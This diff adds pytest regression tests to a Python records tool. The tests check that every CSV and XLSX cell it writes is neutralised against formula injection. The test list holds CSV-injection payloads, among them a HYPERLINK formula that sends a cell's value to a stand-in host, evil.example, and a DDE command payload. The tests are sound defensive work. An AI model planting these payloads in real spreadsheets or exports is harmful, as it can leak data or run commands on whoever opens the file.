@@ -709,3 +709,89 @@ def test_every_header_line_is_within_the_limit(field: str, name: str, directory:
     shown = str(make_header(decode_header(raw.rsplit("<", 1)[0].strip()))).strip().strip('"')
     assert shown.replace("\\", "") == name.replace("=?", "= ?")
     assert message["Bcc"] is None
+
+
+# 13. Every spreadsheet and CSV cell, from any source, through the one cell serializer.
+FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1+1", "-1+1", "@SUM(A1)",
+            "\t=1+1", "\r=1+1", "\n=1+1", "  =1+1", "\uff1d1+1", "=cmd|' /C calc'!A0"]
+
+
+def _directory_with_title(tmp_path: Path, title: str) -> Path:
+    from tests.conftest import FROZEN_AGENCIES
+
+    data = yaml.safe_load(FROZEN_AGENCIES.read_text())
+    record = next(a for a in data["agencies"] if a["id"] == "bps")["records"][0]
+    record["title"] = title
+    path = tmp_path / "agencies.yaml"
+    path.write_text(yaml.safe_dump(data, sort_keys=False, allow_unicode=True))
+    return path
+
+
+def _xlsx_cells(path: Path) -> list[Any]:
+    from openpyxl import load_workbook
+
+    workbook = load_workbook(path)
+    return [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]
+
+
+def _csv_cells(path: Path) -> list[str]:
+    import csv
+
+    return [cell for row in csv.reader(path.open(newline="", encoding="utf-8")) for cell in row]
+
+
+@pytest.mark.parametrize("formula", FORMULAS)
+def test_no_spreadsheet_cell_runs_a_formula(formula: str, tmp_path: Path) -> None:
+    """Defect 13 as reported (a record title from the directory, written live by
+    ``batch --template``), and its class: each formula shape, from the directory and from a
+    batch's rows, in every spreadsheet and CSV recordskit writes."""
+    from recordskit.text import formula_like
+
+    agencies = _directory_with_title(tmp_path, formula)
+    validated = invoke("agencies", "validate", str(agencies))
+    assert "Traceback" not in validated.output
+    for name in ("template.xlsx", "template.csv"):
+        made = invoke("--agencies", str(agencies), "batch", "--template", str(tmp_path / name))
+        assert made.exit_code == 0, made.output
+    cells = _xlsx_cells(tmp_path / "template.xlsx")
+    assert any(cell.value == formula.strip() for cell in cells)  # written, as the file has it
+    for cell in cells:
+        assert cell.data_type != "f", cell.value
+    for cell in _csv_cells(tmp_path / "template.csv"):
+        assert not formula_like(cell), cell
+    # A batch's own files: manifest.csv, errors.csv and each schedule.csv.
+    rows = tmp_path / "rows.csv"
+    import csv
+
+    with rows.open("w", newline="", encoding="utf-8") as handle:
+        writer = csv.writer(handle)
+        writer.writerow(["row_id", "agency", "records", "other_records", "requester.name",
+                         "requester.email", "delivery", "sent_on"])
+        writer.writerow(["r1", "bps", "school-police-reports-shared-with-bric", formula,
+                         formula.strip(), "a@example.org", "email", "2026-06-12"])
+        writer.writerow([formula, "nowhere", "", "", "", "a@example.org", "email",
+                         "2026-06-12"])
+    invoke("--agencies", str(agencies), "batch", str(rows), "--out", str(tmp_path / "out"))
+    written = [*(tmp_path / "out").glob("*.csv"), *(tmp_path / "out").glob("*/*.csv")]
+    assert {p.name for p in written} >= {"manifest.csv", "errors.csv", "schedule.csv"}
+    for path in written:
+        for cell in _csv_cells(path):
+            assert not formula_like(cell), (path.name, cell)
+
+
+def test_every_spreadsheet_writer_goes_through_the_serializer() -> None:
+    """The class, statically: no module writes a CSV row but ``text.csv_document``, and no
+    module writes an XLSX cell but ``spreadsheet.append_row``."""
+    from tests.conftest import ROOT
+
+    package = ROOT / "src" / "recordskit"
+    for path in package.rglob("*.py"):
+        text = path.read_text(encoding="utf-8")
+        name = str(path.relative_to(package))
+        if name != "text.py":
+            assert "csv.writer" not in text and "DictWriter" not in text, name
+        if "openpyxl" in text and name != "intake/rows.py":
+            body = text.replace("def append_row", "")
+            assert name == "documents/spreadsheet.py", name
+            assert re.findall(r"\.append\(", body) == [".append("], name  # append_row's own
+            assert ".cell(" not in body.replace("sheet.cell(row=1, column=index)", ""), name
